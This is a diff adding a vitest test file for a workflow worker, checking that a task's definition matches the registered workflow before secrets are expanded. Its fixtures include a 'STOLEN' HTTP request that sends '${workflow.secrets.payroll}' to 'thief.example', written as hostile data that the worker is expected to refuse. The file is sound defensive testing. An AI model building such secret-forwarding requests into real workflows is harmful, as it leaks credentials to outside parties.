@@ -1,0 +1,307 @@
+// Which text is a task's definition, whatever the server hands out with the task.
+import { afterEach, describe, expect, test, vi } from 'vitest';
+import { type DefinitionsAt, Denied, type Task, Unreachable } from '../../src/commands/worker/conductor.ts';
+import { Misfit } from '../../src/commands/worker/definition.ts';
+import { registeredDefinitions, withDefinition } from '../../src/commands/worker/registered-definition.ts';
+import type { JsonObject } from '../../src/json.ts';
+
+const HTTP = 'HTTP_WITH_SECRETS';
+const SECRET = { http_request: { uri: 'https://post.example/', headers: { a: '${workflow.secrets.token}' } } };
+const STOLEN = { http_request: { uri: 'https://thief.example/', headers: { a: '${workflow.secrets.payroll}' } } };
+const NO_SECRET = { http_request: { uri: 'https://post.example/', body: '${workflow.input.x}' } };
+
+const written = (taskReferenceName: string, more: JsonObject = {}): JsonObject => ({
+  ...{ name: 'call', taskReferenceName, type: HTTP, inputParameters: SECRET },
+  ...more,
+});
+const workflow = (tasks: JsonObject[], more: JsonObject = {}): JsonObject => ({
+  name: 'w',
+  version: 1,
+  tasks,
+  ...more,
+});
+const handedOut = (workflowTask: JsonObject, referenceTaskName = workflowTask.taskReferenceName as string): Task => ({
+  ...{ taskId: 't', workflowInstanceId: 'x', referenceTaskName, pollCount: 1, scheduledTime: undefined },
+  ...{ inputData: workflowTask.inputParameters, workflowTask },
+});
+
+interface Shown {
+  started?: JsonObject;
+  registered?: JsonObject;
+  task?: JsonObject;
+}
+/** A server that shows these, and notes what it was asked for. */
+function server(shown: Shown): DefinitionsAt & { shown: Shown; asked: string[] } {
+  const asked: string[] = [];
+  return {
+    ...{ shown, asked },
+    async execution(id) {
+      asked.push(`execution ${id}`);
+      return shown.started && { workflowId: id, workflowDefinition: shown.started };
+    },
+    async workflow(name, version) {
+      asked.push(`workflow ${name} ${version}`);
+      return shown.registered;
+    },
+    async task(name) {
+      asked.push(`task ${name}`);
+      return shown.task;
+    },
+  };
+}
+/** A server at which `definition` is registered, and was started. */
+const registered = (definition: JsonObject) => server({ started: definition, registered: definition });
+const definitionOf = async (at: DefinitionsAt, task: Task, type = HTTP, unregistered: 'refuse' | 'allow' = 'refuse') =>
+  (await registeredDefinitions(at, unregistered).of(type, task)).definition;
+const refusal = async (...of: Parameters<typeof definitionOf>) => {
+  const error = await definitionOf(...of).then(
+    () => undefined,
+    (error: unknown) => error,
+  );
+  expect(error).toBeInstanceOf(Misfit);
+  return (error as Misfit).message;
+};
+
+afterEach(() => void vi.useRealTimers());
+
+describe('a reference counts in a task that the registered definition has', () => {
+  const call = written('call');
+  const loop = (...loopOver: JsonObject[]) => written('loop', { type: 'DO_WHILE', inputParameters: {}, loopOver });
+  const outer = loop(written('inner', { type: 'DO_WHILE', loopOver: [call] }));
+  test.each<[string, JsonObject, string]>([
+    ['in its list of tasks', call, 'call'],
+    ['in a case of a SWITCH', written('which', { type: 'SWITCH', decisionCases: { prod: [call] } }), 'call'],
+    ['in the default of a SWITCH', written('which', { type: 'SWITCH', defaultCase: [call] }), 'call'],
+    ['in a branch of a FORK_JOIN', written('fork', { type: 'FORK_JOIN', forkTasks: [[], [call]] }), 'call'],
+    ['in a loop', loop(call), 'call__12'],
+    ['in a SWITCH in a loop', loop(written('which', { type: 'SWITCH', decisionCases: { prod: [call] } })), 'call__1'],
+    ['in a loop in a loop', outer, 'call__2'],
+    ['in a loop in a loop, with both iterations', outer, 'call__2__3'],
+  ])('%s', async (_, task, scheduled) => {
+    const other = written('other', { inputParameters: NO_SECRET });
+    expect(await definitionOf(registered(workflow([other, task])), handedOut(call, scheduled))).toEqual(SECRET);
+  });
+
+  test('by the type SIMPLE and the name of a type that the worker does', async () => {
+    const simple = written('call', { type: 'SIMPLE', name: HTTP });
+    expect(await definitionOf(registered(workflow([simple])), handedOut(simple))).toEqual(SECRET);
+  });
+
+  test('as a DYNAMIC task, with nothing of the task definition that data chose', async () => {
+    const dynamic = written('call', { type: 'DYNAMIC', name: 'some' });
+    const taskDefinition = { inputTemplate: { http_request: STOLEN, more: '${workflow.secrets.payroll}' } };
+    const polled = handedOut({ ...dynamic, name: HTTP, taskDefinition });
+    expect(await definitionOf(registered(workflow([dynamic])), polled)).toEqual(SECRET);
+  });
+
+  test('or in the input template of its registered task definition', async () => {
+    const bare = written('call', { inputParameters: { more: 1 } });
+    const taskDefinition = { name: 'call', inputTemplate: SECRET };
+    const complete = { ...bare, taskDefinition };
+    const at = server({ started: workflow([complete]), registered: workflow([bare]), task: taskDefinition });
+    expect(await definitionOf(at, handedOut(complete))).toEqual({ ...SECRET, more: 1 });
+    expect(at.asked).toEqual(['execution x', 'workflow w 1', 'task call']);
+
+    at.shown.task = { name: 'call', inputTemplate: { ...SECRET, uri: 'https://other.example/' } };
+    expect(await refusal(at, handedOut(complete))).toContain('differs from the registered definition');
+    at.shown.registered = workflow([{ ...bare, taskDefinition }]);
+    expect(await definitionOf(at, handedOut(complete))).toEqual({ ...SECRET, more: 1 });
+  });
+});
+
+describe('no reference counts', () => {
+  const call = written('call');
+
+  test('in a task that the definition does not have, as dynamic forks make them', async () => {
+    const at = registered(workflow([call]));
+    for (const name of ['_call_0', 'forked', 'call__1', 'cal', '', 'call__', 'call__1x'])
+      expect(await refusal(at, handedOut(written(name)))).toContain('the definition of the workflow has no such task');
+  });
+
+  test('in a task with the name of one of the definition that says something else', async () => {
+    const at = registered(workflow([call]));
+    for (const more of [
+      { inputParameters: STOLEN },
+      { inputParameters: { http_request: { ...SECRET.http_request, uri: 'https://thief.example/' } } },
+      { inputParameters: { ...SECRET, outputFilter: {} } },
+      { taskDefinition: { inputTemplate: { outputFilter: {} } } },
+      { name: 'other' },
+      { type: 'SIMPLE', name: HTTP },
+      { type: 'DYNAMIC' },
+    ] as JsonObject[])
+      expect(await refusal(at, handedOut({ ...call, ...more }))).toContain('it differs from the task of this name');
+  });
+
+  test('in a task that the definition has somebody else do', async () => {
+    for (const other of [{ type: 'HTTP' }, { type: 'SIMPLE' }, { type: 'UPDATE_SECRET' }])
+      expect(await refusal(registered(workflow([{ ...call, ...other }])), handedOut({ ...call, ...other }))).toContain(
+        'its type is not HTTP_WITH_SECRETS',
+      );
+  });
+
+  test('in a definition that the workflow was started with, where the registered one says something else', async () => {
+    for (const other of [
+      workflow([written('call', { inputParameters: NO_SECRET })]),
+      workflow([written('call', { inputParameters: STOLEN })]),
+      workflow([written('call', { name: 'other' })]),
+      workflow([written('other')]),
+      workflow([]),
+      {},
+    ]) {
+      const at = server({ started: workflow([call]), registered: other });
+      expect(await refusal(at, handedOut(call))).toContain(
+        'differs from the registered definition of workflow "w", version 1',
+      );
+      expect(await refusal(at, handedOut(call), HTTP, 'allow')).toContain(
+        'differs from the registered definition of workflow "w", version 1',
+      );
+    }
+  });
+
+  test('in a definition under whose name and version none is registered, unless that is allowed', async () => {
+    const at = server({ started: workflow([call]) });
+    expect(await refusal(at, handedOut(call))).toContain('WORKER_UNREGISTERED=allow');
+    expect(await definitionOf(at, handedOut(call), HTTP, 'allow')).toEqual(SECRET);
+    expect(await refusal(at, handedOut(written('forked')), HTTP, 'allow')).toContain('has no such task');
+    expect(await refusal(at, handedOut({ ...call, inputParameters: STOLEN }), HTTP, 'allow')).toContain(
+      'differs from the task of this name',
+    );
+    at.shown.started = { tasks: [call] };
+    expect(await refusal(at, handedOut(call))).toContain('WORKER_UNREGISTERED=allow');
+  });
+
+  test('in a sub-workflow that is written into its parent, which is not registered', async () => {
+    const subWorkflowParam = { name: 'child', version: 1, workflowDefinition: workflow([call], { name: 'child' }) };
+    const parent = workflow([written('sub', { type: 'SUB_WORKFLOW', inputParameters: {}, subWorkflowParam })]);
+    expect(await refusal(registered(parent), handedOut(call))).toContain('has no such task');
+    expect(await refusal(server({ started: subWorkflowParam.workflowDefinition }), handedOut(call))).toContain(
+      'no definition of workflow "child", version 1 is registered',
+    );
+  });
+
+  test('where several tasks have the reference name', async () => {
+    const twice = workflow([call, written('which', { type: 'SWITCH', defaultCase: [call] })]);
+    expect(await refusal(registered(twice), handedOut(call))).toContain('several tasks');
+    const at = server({ started: workflow([call]), registered: twice });
+    expect(await refusal(at, handedOut(call))).toContain('several tasks');
+  });
+
+  test('where the server does not know the execution', async () => {
+    expect(await refusal(server({}), handedOut(call))).toContain('does not know its execution');
+  });
+
+  test('where the server does not let the worker read definitions, or does not answer', async () => {
+    const work = withDefinition(
+      HTTP,
+      registeredDefinitions(
+        { ...registered(workflow([call])), workflow: () => Promise.reject(new Denied(403)) },
+        'refuse',
+      ),
+      () => expect.unreachable(),
+    );
+    const { signal } = new AbortController();
+    const denied = await work(handedOut(call), signal);
+    expect(denied.status).toBe('FAILED_WITH_TERMINAL_ERROR');
+    expect(denied.reason).toContain('workflow definitions (HTTP 403)');
+    const away = { ...registered(workflow([call])), execution: () => Promise.reject(new Unreachable()) };
+    const later = withDefinition(HTTP, registeredDefinitions(away, 'allow'), () => expect.unreachable());
+    expect((await later(handedOut(call), signal)).status).toBe('FAILED');
+  });
+});
+
+test('an iteration and a task whose name looks like one are told apart', async () => {
+  const inLoop = written('call');
+  const other = written('call__1', { inputParameters: { http_request: { ...SECRET.http_request, body: 'other' } } });
+  const at = registered(
+    workflow([written('loop', { type: 'DO_WHILE', inputParameters: {}, loopOver: [inLoop] }), other]),
+  );
+  expect(await definitionOf(at, handedOut(inLoop, 'call__1'))).toEqual(inLoop.inputParameters);
+  expect(await definitionOf(at, handedOut(other))).toEqual(other.inputParameters);
+  expect(await refusal(at, handedOut({ ...inLoop, taskReferenceName: 'call__1' }))).toContain(
+    'differs from the task of this name',
+  );
+});
+
+describe('an UPDATE_SECRET', () => {
+  const store = written('store', {
+    type: 'UPDATE_SECRET',
+    inputParameters: { _secrets: { secretKey: 'token', secretValue: '1' } },
+  });
+
+  test('counts where the registered definition has it, with references or without', async () => {
+    expect(await definitionOf(registered(workflow([store])), handedOut(store), 'UPDATE_SECRET')).toEqual(
+      store.inputParameters,
+    );
+  });
+
+  test('does not count elsewhere, nor without a definition', async () => {
+    const at = registered(workflow([store]));
+    const forked = { ...store, taskReferenceName: '_store_0' };
+    expect(await refusal(at, handedOut(forked), 'UPDATE_SECRET')).toContain('has no such task');
+    const other = { ...store, inputParameters: { _secrets: { secretKey: 'payroll', secretValue: '1' } } };
+    expect(await refusal(at, handedOut(other), 'UPDATE_SECRET')).toContain('differs from the task of this name');
+    expect(await refusal(at, { ...handedOut(store), workflowTask: undefined }, 'UPDATE_SECRET')).toContain(
+      'differs from the task of this name',
+    );
+  });
+});
+
+describe('the server is asked for definitions', () => {
+  const call = written('call');
+
+  test('not at all for tasks without references', async () => {
+    const at = registered(workflow([call]));
+    const task = handedOut(written('forked', { inputParameters: NO_SECRET }));
+    expect(await definitionOf(at, task)).toEqual(NO_SECRET);
+    expect(await definitionOf(at, { ...task, workflowTask: undefined })).toBeUndefined();
+    // Also where data looks like a reference.
+    expect(await definitionOf(at, { ...task, inputData: STOLEN })).toEqual(NO_SECRET);
+    expect(at.asked).toEqual([]);
+  });
+
+  test('once by tasks at one moment, and again for what is registered after five seconds', async () => {
+    vi.useFakeTimers({ toFake: ['Date'] });
+    const at = registered(workflow([call]));
+    const definitions = registeredDefinitions(at, 'refuse');
+    await Promise.all(Array.from({ length: 20 }, () => definitions.of(HTTP, handedOut(call))));
+    expect(at.asked).toEqual(['execution x', 'workflow w 1', 'task call']);
+    vi.setSystemTime(Date.now() + 4_999);
+    await definitions.of(HTTP, handedOut(call));
+    expect(at.asked).toHaveLength(3);
+    vi.setSystemTime(Date.now() + 1);
+    at.shown.registered = workflow([]);
+    await expect(definitions.of(HTTP, handedOut(call))).rejects.toBeInstanceOf(Misfit);
+  });
+
+  test('again before a task is refused, since a workflow may be restarted with a newer definition', async () => {
+    const at = registered(workflow([call]));
+    const definitions = registeredDefinitions(at, 'refuse');
+    await definitions.of(HTTP, handedOut(call));
+    const newer = written('call', { inputParameters: { ...SECRET, more: 1 } });
+    at.shown.started = at.shown.registered = workflow([newer]);
+    expect((await definitions.of(HTTP, handedOut(newer))).definition).toEqual(newer.inputParameters);
+    await expect(definitions.of(HTTP, handedOut(call))).rejects.toBeInstanceOf(Misfit);
+  });
+
+  test('again after it did not answer', async () => {
+    const at = registered(workflow([call]));
+    let away = true;
+    const execution = (id: string) => (away ? Promise.reject(new Unreachable()) : at.execution(id));
+    const definitions = registeredDefinitions({ ...at, execution }, 'refuse');
+    await expect(definitions.of(HTTP, handedOut(call))).rejects.toBeInstanceOf(Unreachable);
+    away = false;
+    expect((await definitions.of(HTTP, handedOut(call))).definition).toEqual(SECRET);
+  });
+
+  test('anew about executions that two hundred others came after', async () => {
+    const at = registered(workflow([call]));
+    const definitions = registeredDefinitions(at, 'refuse');
+    const executions = () => at.asked.filter((what) => what.startsWith('execution')).length;
+    for (let i = 0; i <= 200; i++) await definitions.of(HTTP, { ...handedOut(call), workflowInstanceId: `x${i}` });
+    expect(executions()).toBe(201);
+    await definitions.of(HTTP, { ...handedOut(call), workflowInstanceId: 'x200' });
+    expect(executions()).toBe(201);
+    await definitions.of(HTTP, { ...handedOut(call), workflowInstanceId: 'x0' });
+    expect(executions()).toBe(202);
+  });
+});
